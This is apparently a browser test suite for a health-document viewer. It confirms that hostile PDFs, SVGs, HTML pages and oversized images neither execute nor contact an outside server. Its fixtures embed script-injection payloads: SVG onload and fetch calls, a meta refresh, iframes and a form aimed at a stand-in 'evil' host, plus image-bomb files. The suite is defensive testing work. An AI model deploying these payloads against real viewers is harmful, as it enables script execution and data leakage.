// Documents that mean harm, opened in a real browser: nothing in them runs, nothing leaves, and each has its word.

import assert from 'node:assert/strict';
import { cpSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { crc32, deflateSync } from 'node:zlib';
import { SHL, SHLManifestBuilder } from 'kill-the-clipboard';
import type { Browser, Worker } from 'playwright-core';
import { LinkServer } from './support/link-server.js';
import { bombPdf, hostilePdf, lockedPdf, manyPicturesPdf, ownFilesPdf, plainPdf, sizedPdf } from './support/pdf.js';
import { Person, startBrowser, type WINDOWS } from './support/person.js';
import { BUILD, type Site, startSite } from './support/site.js';

let browser: Browser;
let server: LinkServer;
/** The server that hostile documents want to reach. */
let evil: LinkServer;
let site: Site;
before(async () => {
    [browser, server, evil] = await Promise.all([startBrowser(), LinkServer.start(), LinkServer.start()]);
    site = await startSite([{ name: 'Town', cluster: 'localnet', nodes: ['http://127.0.0.1:9'], stores: [] }]);
});
after(async () => {
    await browser?.close();
    site?.stop();
    server?.stop();
    evil?.stop();
});

let links = 0;

/** A health link to a document in a frame, as any clinic could make one. */
async function linkTo(contentType: string, document: Buffer | string): Promise<string> {
    const path = `/hostile-${links++}`;
    const shl = SHL.generate({ baseManifestURL: 'https://shl.example/', flag: 'U', label: 'From a stranger' });
    let file = '';
    const builder = new SHLManifestBuilder({
        shl,
        uploadFile: async (content) => {
            file = content;
            return path;
        },
        getFileURL: async () => `${server.url}${path}`,
        loadFile: async () => file,
    });
    const attachment = { contentType, data: Buffer.from(document).toString('base64') };
    const content = { resourceType: 'DocumentReference', status: 'current', content: [{ attachment }] };
    await builder.addFHIRResource({ content: content as never, enableCompression: true });
    server.at.set(path, (_, response) => response.end(file));
    const payload = JSON.stringify({ ...shl.payload, url: `${server.url}${path}` });
    return `${site.url}#shlink:/${Buffer.from(payload).toString('base64url')}`;
}

type Visit = { person: Person; requests: string[] };

/** Somebody who opens a document, and every request of this browser from then on. */
async function opens(
    document: [contentType: string, content: Buffer | string],
    story: string,
    size: keyof typeof WINDOWS = 'phone',
    locale = 'en-GB',
): Promise<Visit> {
    const link = await linkTo(...document);
    const person = await Person.at(browser, 'about:blank', `hostile-${story}`, size, locale);
    const requests: string[] = [];
    person.page.context().on('request', (request) => requests.push(request.url()));
    await person.page.goto(link);
    return { person, requests };
}

/** Nothing ran, and nothing was asked of anybody but the app's own server and the link's. */
async function assertHarmless({ person, requests }: Visit): Promise<void> {
    assert.equal(await person.page.title(), 'Generion');
    assert.equal(person.page.context().pages().length, 1);
    assert.ok(requests.some((url) => url.startsWith(server.url)));
    const own = [site.url, server.url, 'blob:', 'data:'];
    assert.deepEqual(
        requests.filter((url) => !own.some((start) => url.startsWith(start))),
        [],
    );
    assert.deepEqual(evil.asked, []);
    await person.leaves();
}

/** The number of dark pixels in a page's picture. */
async function darkPixels({ person }: Visit, page = 0): Promise<number> {
    const picture = person.page.locator('.pdf-page canvas').nth(page);
    await person.page.waitForFunction(
        (canvas) => (canvas as HTMLCanvasElement).width !== 595,
        await picture.elementHandle(),
    );
    return await picture.evaluate((canvas: HTMLCanvasElement) => {
        const copy = document.createElement('canvas');
        [copy.width, copy.height] = [canvas.width, canvas.height];
        const context = copy.getContext('2d');
        context?.drawImage(canvas, 0, 0);
        const { data } = context?.getImageData(0, 0, copy.width, copy.height) ?? { data: [] };
        return data.filter((value, index) => index % 4 === 0 && value < 100).length;
    });
}

const PDF = 'application/pdf';

for (const size of ['phone', 'desktop'] as const) {
    test(`a PDF with programs, links and addresses is shown as pictures, and does nothing (${size})`, async () => {
        const visit = await opens([PDF, hostilePdf(evil.url)], 'pdf', size);
        const { page } = visit.person;
        await page.getByText('nothing in it runs, and its links lead nowhere').waitFor();
        await page.getByText('Blood pressure 107').waitFor({ state: 'attached' });
        assert.ok((await darkPixels(visit)) > 100);
        // A link over the whole page, where somebody taps.
        await page.locator('.pdf-page canvas').click();
        assert.equal(await page.locator('main a[href^="http"], main iframe, main embed, main object').count(), 0);
        await visit.person.look();
        await page.getByRole('link', { name: 'Save the document' }).waitFor();
        await assertHarmless(visit);
    });
}

const workerOf = ({ person }: Visit): Worker => {
    const worker = person.page.workers().find((one) => one.url().includes('pdf-worker'));
    assert.ok(worker);
    return worker;
};

test('the worker that reads a PDF has no way out', async () => {
    const visit = await opens([PDF, plainPdf(['A letter'])], 'pdf-worker');
    await visit.person.page.getByText('A letter').waitFor({ state: 'attached' });
    const worker = workerOf(visit);
    const ways = await worker.evaluate(() => {
        const names = [
            ...['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'WebTransport', 'BroadcastChannel', 'Worker'],
            ...['importScripts', 'indexedDB', 'caches', 'cookieStore', 'webkitRequestFileSystem'],
            ...['storage', 'storageBuckets', 'locks', 'permissions', 'usb', 'hid', 'serial'],
        ];
        const found: string[] = [];
        // An object's prototypes may still have a member that the object hides.
        for (const start of [self, navigator]) {
            for (let owner: object | null = start; owner; owner = Object.getPrototypeOf(owner)) {
                for (const name of names) {
                    const member = Object.getOwnPropertyDescriptor(owner, name);
                    if (member && (member.get || member.value !== undefined || member.configurable)) found.push(name);
                }
            }
        }
        return found;
    });
    assert.deepEqual(ways, []);
    const fonts = await worker.evaluate((url) => {
        const source = `local(A), url(${url}/font)`;
        const tries = [
            () => new FontFace('stolen', source),
            () => new FontFace('stolen', new String(source) as string),
            () => new (Object.getPrototypeOf(FontFace))('stolen', source),
            () => new (FontFace.prototype.constructor as typeof FontFace)('stolen', source),
        ];
        return tries.map((attempt) => {
            try {
                return attempt() instanceof FontFace ? 'made' : 'no font';
            } catch (error) {
                return String(error);
            }
        });
    }, evil.url);
    const refused = 'TypeError: not a font of the device';
    assert.deepEqual([fonts[0], fonts[1], fonts[3]], [refused, refused, refused]);
    assert.notEqual(fonts[2], 'made');
    await assertHarmless(visit);
});

test('the policy of the worker that reads a PDF allows it no connection, even if nothing had been taken from it', async () => {
    const link = await linkTo(PDF, plainPdf(['A letter']));
    const person = await Person.at(browser, 'about:blank', 'hostile-pdf-policy', 'phone');
    // Somebody else's program with the headers of the worker's script.
    await person.page.context().route('**/pdf-worker-*', async (route) => {
        await route.fulfill({ response: await route.fetch(), body: 'self.isTaken = true;' });
    });
    const starts = person.page.waitForEvent('worker', (worker) => worker.url().includes('pdf-worker'));
    await person.page.goto(link);
    const worker = await starts;
    const own = new URL('networks.json', site.url).href;
    const told = await worker.evaluate(
        async ([url = '', own = '']) => {
            const said = (work: Promise<unknown>) =>
                work.then(
                    () => 'reached',
                    (error: Error) => error.name,
                );
            return [
                (self as unknown as { isTaken: boolean }).isTaken,
                await said(fetch(`${url}/fetch`)),
                await said(fetch(own)),
                await said(import(`${url}/script.js`)),
                await said(new FontFace('stolen', `url(${url}/font)`).load()),
            ];
        },
        [evil.url, own],
    );
    assert.deepEqual(told, [true, 'TypeError', 'TypeError', 'TypeError', 'NetworkError']);
    assert.deepEqual(evil.asked, []);
    await person.leavesComplaining(/Content Security Policy|Refused to/);
});

test('a PDF has its tables of characters, fonts and decoders from the app’s own folder', async () => {
    const visit = await opens([PDF, ownFilesPdf()], 'pdf-files');
    await visit.person.page.getByText('日本').waitFor({ state: 'attached' });
    assert.ok((await darkPixels(visit)) > 100);
    const asked = visit.requests.map((url) => url.split('/').at(-1));
    for (const name of ['90ms-RKSJ-H.bcmap', 'FoxitSymbol.pfb']) assert.ok(asked.includes(name), `${name}: ${asked}`);
    const folder = visit.requests.find((url) => url.endsWith('.bcmap'))?.replace(/[^/]*$/, '');
    const decoder = await workerOf(visit).evaluate(
        async (url) => typeof (await import(url)).default,
        `${folder}openjpeg_nowasm_fallback.js`,
    );
    assert.equal(decoder, 'function');
    await assertHarmless(visit);
});

test('pages are drawn as they come into view, and forgotten when they are far away', async () => {
    const lines = Array.from({ length: 600 }, (_, index) => `This is sheet ${index + 1}`);
    const visit = await opens([PDF, plainPdf(lines)], 'pdf-long', 'desktop');
    const { page } = visit.person;
    await page.getByText('The first 500 of 600 pages are shown.').waitFor();
    await page.getByText('This is sheet 1', { exact: true }).waitFor({ state: 'attached' });
    assert.equal(await page.locator('.pdf-page').count(), 500);
    const texts = page.locator('.pdf-page .visually-hidden');
    assert.ok((await texts.count()) < 10, `${await texts.count()} pages are drawn`);
    await page.locator('.pdf-page').nth(249).scrollIntoViewIfNeeded();
    await page.getByText('This is sheet 250', { exact: true }).waitFor({ state: 'attached' });
    assert.ok((await darkPixels(visit, 249)) > 100);
    // Its memory is given back: what is left of the first page's picture is blank.
    const blank = await page
        .locator('.pdf-page canvas')
        .first()
        .evaluate((canvas: HTMLCanvasElement) => {
            const copy = document.createElement('canvas');
            [copy.width, copy.height] = [canvas.width, canvas.height];
            const context = copy.getContext('2d');
            context?.drawImage(canvas, 0, 0);
            return context?.getImageData(0, 0, copy.width, copy.height).data.every((value) => value === 0);
        });
    assert.ok(blank);
    await assertHarmless(visit);
});

test('a PDF without harm is shown without a warning, and again without a connection', async () => {
    const link = await linkTo(PDF, plainPdf(['A friendly letter', 'Its second sheet']));
    const person = await Person.at(browser, site.url, 'hostile-friendly', 'phone');
    await person.page.waitForFunction(() => navigator.serviceWorker.controller?.state === 'activated');
    await person.page.goto(link);
    await person.page.getByText('Its second sheet').waitFor({ state: 'attached' });
    assert.equal(await person.page.getByText('nothing in it runs').count(), 0);
    await person.look();
    site.isAway = true;
    await person.page.goto('about:blank');
    await person.page.goto(link);
    await person.page.getByText('A friendly letter').waitFor({ state: 'attached' });
    site.isAway = false;
    await person.leavesComplaining(/ERR_EMPTY_RESPONSE|ERR_CONNECTION/);
});

test('a reader of PDF documents that is not the one of this build is not used, and not kept', async () => {
    const link = await linkTo(PDF, plainPdf(['A letter']));
    const folder = mkdtempSync(join(tmpdir(), 'generion-app-'));
    cpSync(BUILD, folder, { recursive: true });
    const name = readdirSync(join(BUILD, 'assets')).find((one) => /^pdf-worker-.*\.js$/.test(one)) ?? '';
    writeFileSync(join(folder, 'assets', name), 'self.isTaken = true;');
    site.folder = folder;
    const person = await Person.at(browser, site.url, 'hostile-other-reader', 'phone');
    await person.page.waitForFunction(() => navigator.serviceWorker.controller?.state === 'activated');
    await person.page.goto(link);
    assert.match(await person.isTold(), /did not load/);
    site.folder = BUILD;
    rmSync(folder, { recursive: true });
    await person.page.reload();
    await person.page.getByText('A letter').waitFor({ state: 'attached' });
    await person.leavesComplaining(/integrity|ERR_FAILED|Failed to fetch/);
});

test('a damaged PDF, one with a password and one that is something else say so, and can be saved', async () => {
    const noise = Buffer.from(Array.from({ length: 4000 }, (_, index) => (index * 7919) % 251));
    const cases: [string, Buffer, RegExp][] = [
        ['noise', Buffer.concat([Buffer.from('%PDF-1.7\n'), noise]), /This PDF is damaged/],
        ['cut', plainPdf(['x']).subarray(0, 60), /This PDF is damaged/],
        ['empty', Buffer.alloc(0), /This PDF is damaged/],
        ['page', Buffer.from(`<script>location='${evil.url}'</script>`), /This PDF is damaged/],
        ['locked', lockedPdf(), /This PDF has a password of its own/],
    ];
    for (const [story, document, told] of cases) {
        const visit = await opens([PDF, document], `pdf-${story}`);
        assert.match(await visit.person.isTold(), told, story);
        await visit.person.look();
        await visit.person.page.getByRole('link', { name: 'Save the document' }).waitFor();
        await assertHarmless(visit);
    }
});

test('a PDF that takes too long is stopped, and one whose reader does not load says so', async () => {
    const link = await linkTo(PDF, plainPdf(['A letter']));
    const slow = await Person.at(browser, 'about:blank', 'hostile-pdf-slow', 'phone');
    await slow.page.clock.install();
    // The reader never starts, as one that never ends. The app's clock for it runs once its script is asked for.
    const isAsked = new Promise<void>((resolve) => {
        void slow.page.context().route('**/pdf-worker-*', () => resolve());
    });
    await slow.page.goto(link);
    await isAsked;
    await slow.page.getByText('Opening the PDF…').waitFor();
    await slow.page.clock.fastForward(31_000);
    assert.match(await slow.isTold(), /takes too long, so the app has stopped/);
    await slow.leaves();
    const away = await Person.at(browser, 'about:blank', 'hostile-pdf-away', 'phone', 'de-AT');
    await away.page.context().route('**/pdf-worker-*', (route) => route.abort());
    await away.page.goto(link);
    assert.match(await away.isTold(), /Der Teil dieser App, der PDF-Dokumente zeigt, wurde nicht geladen/);
    await away.look();
    await away.leavesComplaining(/ERR_FAILED/);
});

test('a picture in a PDF that is too large to be decoded is left out, and the rest is shown', async () => {
    const visit = await opens([PDF, bombPdf(60_000)], 'pdf-bomb');
    await visit.person.page.getByText('Before the bomb').waitFor({ state: 'attached' });
    assert.ok((await darkPixels(visit)) > 100);
    await assertHarmless(visit);
});

/** Pixels of all pages' pictures, and how many pages have been drawn. */
async function pixelsOf({ person }: Visit): Promise<{ pages: number; pixels: number }> {
    const canvases = person.page.locator('.pdf-page').filter({ has: person.page.locator('.visually-hidden') });
    const sizes = await canvases
        .locator('canvas')
        .evaluateAll((all) =>
            all.map((canvas) => (canvas as HTMLCanvasElement).width * (canvas as HTMLCanvasElement).height),
        );
    return { pages: sizes.length, pixels: sizes.reduce((sum, one) => sum + one, 0) };
}

test('the pictures of tall pages have a limit together, and all are drawn', async () => {
    const visit = await opens([PDF, sizedPdf(new Array(12).fill([200, 1200]))], 'pdf-tall', 'desktop');
    await visit.person.page.getByText('Sheet 12', { exact: true }).waitFor({ state: 'attached' });
    const { pages, pixels } = await pixelsOf(visit);
    assert.equal(pages, 12);
    assert.ok(pixels <= 2 ** 26, `${pixels} pixels`);
    await assertHarmless(visit);
});

test('pictures of one page that are too large together are left out, and the rest is shown', async () => {
    const visit = await opens([PDF, manyPicturesPdf(5000, 4)], 'pdf-pictures', 'desktop');
    await visit.person.page.getByText('Before the pictures').waitFor({ state: 'attached' });
    const dark = await darkPixels(visit);
    const width = await visit.person.page.locator('.pdf-page canvas').evaluate((one: HTMLCanvasElement) => one.width);
    // Each picture is 100 of 595 points wide and high.
    const pictures = dark / (width * (100 / 595)) ** 2;
    assert.ok(pictures > 2.5 && pictures < 3.5, `${pictures} pictures are shown`);
    await assertHarmless(visit);
});

test('a drawing (SVG) is not shown, whatever it says it is', async () => {
    const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='run'">
        <script>document.title='run'; fetch('${evil.url}/script')</script><image href="${evil.url}/image"/>
        <use href="${evil.url}/use#a"/><style>@import url('${evil.url}/style');</style>
        <foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="${evil.url}/html" onerror="document.title='run'"/>
        <iframe src="${evil.url}/frame"/></body></foreignObject></svg>`;
    const visit = await opens(['image/svg+xml', svg], 'svg');
    await visit.person.page.getByText('which can contain programs').waitFor();
    assert.equal(await visit.person.page.locator('main svg, main img, main iframe').count(), 0);
    await visit.person.look();
    await assertHarmless(visit);
    const disguised = await opens(['image/png', svg], 'svg-as-png');
    await disguised.person.page.getByText('This picture is damaged, or it is no picture').waitFor();
    await assertHarmless(disguised);
});

test('a web page is shown as its text', async () => {
    const page = `<html><head><meta http-equiv="refresh" content="0;url=${evil.url}/refresh">
        <link rel="stylesheet" href="${evil.url}/style"><link rel="prefetch" href="${evil.url}/prefetch"></head>
        <body onload="document.title='run'"><script>document.title='run'</script><img src="${evil.url}/image">
        <iframe src="${evil.url}/frame"></iframe><form action="${evil.url}/form"><button>Go</button></form></body></html>`;
    for (const type of ['text/html', 'application/xhtml+xml', 'Text/HTML; charset=utf-8']) {
        const visit = await opens([type, page], 'html');
        await visit.person.page.getByText('The app shows its text only').waitFor();
        assert.ok((await visit.person.reads('pre')).some((text) => text.includes('onload')));
        await visit.person.look();
        await assertHarmless(visit);
    }
});

/** A PNG that says it is that large, whatever it has. */
function png(width: number, height: number, rows: Buffer): Buffer {
    const chunk = (name: string, data: Buffer) => {
        const body = Buffer.concat([Buffer.from(name), data]);
        const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)];
        length.writeUInt32BE(data.length);
        check.writeUInt32BE(crc32(body));
        return Buffer.concat([length, body, check]);
    };
    const header = Buffer.alloc(13);
    header.writeUInt32BE(width);
    header.writeUInt32BE(height, 4);
    header.set([8, 2], 8);
    const signature = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
    return Buffer.concat([
        signature,
        chunk('IHDR', header),
        chunk('IDAT', deflateSync(rows)),
        chunk('IEND', Buffer.alloc(0)),
    ]);
}

for (const size of ['phone', 'desktop'] as const) {
    test(`a picture is shown in a frame without scripts, origin and network (${size})`, async () => {
        const row = Buffer.concat([Buffer.from([0]), Buffer.alloc(3 * 400, 120)]);
        const picture = png(400, 300, Buffer.concat(new Array(300).fill(row)));
        // The record says something else: the picture's own bytes count.
        const visit = await opens(['image/jpeg', picture], 'picture', size);
        const frame = visit.person.page.locator('iframe.picture');
        await frame.waitFor();
        assert.equal(await frame.getAttribute('sandbox'), '');
        const { height = 0, width = 0 } = (await frame.boundingBox()) ?? {};
        assert.ok(Math.abs(width / height - 4 / 3) < 0.02, `${width} × ${height}`);
        const inner = visit.person.page.frames().find((one) => one.url().startsWith('blob:'));
        await inner?.waitForLoadState();
        // It has been decoded, within a page that has no origin of its own.
        assert.deepEqual(await inner?.evaluate(() => [document.images[0]?.naturalWidth, origin]), [400, 'null']);
        await visit.person.look();
        await assertHarmless(visit);
    });
}

test('a picture that is too large to be decoded, or is damaged, says so', async () => {
    const jpeg = Buffer.from(
        'ffd8ffe000104a46494600010100000100010000ffc0001108ffffffff03011100021101031101ffda',
        'hex',
    );
    const gif = Buffer.from('474946383961ffffffff', 'hex');
    const webp = Buffer.concat([
        Buffer.from('RIFF\x1e\0\0\0WEBPVP8X\x0a\0\0\0', 'latin1'),
        Buffer.from('00000000fffffffffffff', 'hex'),
        Buffer.from([0xff, 0xff]),
    ]);
    const cases: [string, Buffer, RegExp][] = [
        ['image/png', png(60_000, 60_000, Buffer.alloc(1)), /too large to be shown here: 60000 × 60000 pixels/],
        ['image/jpeg', jpeg, /too large to be shown here: 65535 × 65535 pixels/],
        ['image/gif', gif, /too large to be shown here: 65535 × 65535 pixels/],
        ['image/webp', webp, /too large to be shown here/],
        ['image/png', Buffer.from('no picture'), /damaged, or it is no picture/],
        ['image/png', Buffer.alloc(0), /damaged, or it is no picture/],
    ];
    for (const [type, document, told] of cases) {
        const visit = await opens([type, document], 'picture-bomb');
        await visit.person.page.getByText(told).waitFor();
        await visit.person.look();
        await visit.person.page.getByRole('link', { name: 'Save the document' }).waitFor();
        await assertHarmless(visit);
    }
});
